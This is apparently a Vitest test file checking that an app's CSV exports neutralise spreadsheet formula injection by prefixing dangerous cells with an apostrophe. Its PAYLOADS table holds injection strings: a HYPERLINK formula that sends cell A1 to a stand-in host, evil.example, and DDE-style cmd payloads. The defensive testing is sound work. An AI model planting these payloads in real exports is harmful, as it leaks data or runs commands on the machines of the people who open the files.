import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { today } from '../../shared/dates'
import { readCsv } from '../../server/domain/csv-read'
import { csvLine } from '../../server/reports/csv'
import { feedbackItem, postFeedback } from './feedback-fixtures'
import { addStaff, createTestApp, postResponses, quickResponse, type Session, signIn, staffRequest, type TestApp } from './test-app'

/**
 * Cells a spreadsheet would run as formulas, one per dangerous first character (OWASP, "CSV Injection").
 * The first is the one from the issue: it sends the neighbouring cell to another site when clicked.
 */
const PAYLOADS = {
  '=': '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")',
  '+': '+HYPERLINK("http://evil.example/","x")',
  '-': "-2+3+cmd|' /C calc'!A0",
  '@': "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t': '\t=1+2 (tab first)',
  '\r': '\r=1+2 (carriage return first)',
} as const
type Prefix = keyof typeof PAYLOADS
const PREFIXES = Object.keys(PAYLOADS) as Prefix[]
/** Every schema trims text on the way in, so only these can go through the API; the rest is written to the database. */
const THROUGH_API: Prefix[] = ['=', '+', '-', '@']

let t: TestApp
let admin: Session
const day = today()
beforeAll(async () => {
  t = await createTestApp({ RATE_LIMIT_PER_MINUTE: '100000' })
  await addStaff(t, { username: 'i.admin', role: 'admin' })
  admin = await signIn(t.app, 'i.admin')
})
afterAll(() => t.close())

/** The file as a spreadsheet reads it: its records, field by field, without the byte-order mark. */
async function download(path: string, session: Session = admin): Promise<{ rows: string[][]; raw: string }> {
  const res = await staffRequest(t.app, 'GET', path, session)
  expect(res.status).toBe(200)
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  const raw = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer())
  const records = readCsv(raw)
  expect(records.filter((r) => r.error)).toEqual([])
  return { rows: records.map((r) => r.fields), raw }
}

describe('CSV exports neutralise cells a spreadsheet would run as formulas', () => {
  it('prefixes a feedback description starting with = + - @ tab or CR with an apostrophe in feedback.csv', async () => {
    const items = PREFIXES.map((p) => feedbackItem({ description: THROUGH_API.includes(p) ? PAYLOADS[p] : `placeholder for ${JSON.stringify(p)}` }))
    const results = await postFeedback(t.app, items)
    expect(results.map((r) => r.status)).toEqual(PREFIXES.map(() => 'stored'))
    for (const [i, p] of PREFIXES.entries()) {
      if (!THROUGH_API.includes(p)) await t.sql('UPDATE feedback SET description = ? WHERE id = ?', PAYLOADS[p], items[i]!.id)
    }

    // Leadership reads the items themselves; an administrator's file has no descriptions (staff-exports.test.ts).
    await addStaff(t, { username: 'i.leader', role: 'leadership' })
    const { rows, raw } = await download(`/api/staff/exports/feedback.csv?from=${day}&to=${day}`, await signIn(t.app, 'i.leader'))
    const column = rows[0]!.indexOf('description')
    for (const [i, p] of PREFIXES.entries()) {
      const row = rows.find((r) => r[0] === items[i]!.id)!
      expect(row[column], JSON.stringify(p)).toBe(`'${PAYLOADS[p]}`)
    }
    // The rest of the cell is kept as it is, and quoting still applies (the formula holds quotes and a comma).
    expect(raw).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Xem chi tiết"")",`)
    expect(raw).not.toContain(',=HYPERLINK')
  })

  it('prefixes a procedure name starting with = + - @ tab or CR with an apostrophe in the period report CSV, numbers left as numbers', async () => {
    const codes = PREFIXES.map((_, i) => `INJ-${i}`)
    for (const [i, p] of PREFIXES.entries()) {
      const name = THROUGH_API.includes(p) ? PAYLOADS[p] : `placeholder ${i}`
      const res = await staffRequest(t.app, 'POST', '/api/staff/admin/catalog/procedures', admin, {
        body: { code: codes[i], nationalCode: null, name: { vi: name, en: name }, unitCode: 'LS', timeLimitDays: 3 },
      })
      expect(res.status, JSON.stringify(p)).toBe(201)
    }
    for (const [i, p] of PREFIXES.entries()) {
      if (!THROUGH_API.includes(p)) await t.sql('UPDATE procedures SET name_vi = ?, name_en = ? WHERE code = ?', PAYLOADS[p], PAYLOADS[p], codes[i])
    }
    await t.reopen() // The catalog is cached; a restarted server reads the names written to the database.
    await postResponses(t.app, codes.map((procedure) => quickResponse({ counter: 'HCC-01', procedure })))

    const { rows } = await download(`/api/staff/reports/period?from=${day}&to=${day}&format=csv`)
    for (const p of PREFIXES) {
      const row = rows.find((r) => r[1] === `'${PAYLOADS[p]}`)
      expect(row, JSON.stringify(p)).toBeDefined()
      // The count of forms beside it is still a plain number.
      expect(row![2]).toBe('1')
    }
    expect(rows.some((r) => r.some((cell) => /^[=+\-@\t\r]/.test(cell)))).toBe(false)
  })

  it('writes numbers as numbers: a negative figure is not a formula and stays numeric', () => {
    expect(csvLine([-1, -2.5, '-1', 0])).toBe(`-1,-2.5,'-1,0\r\n`)
  })
})
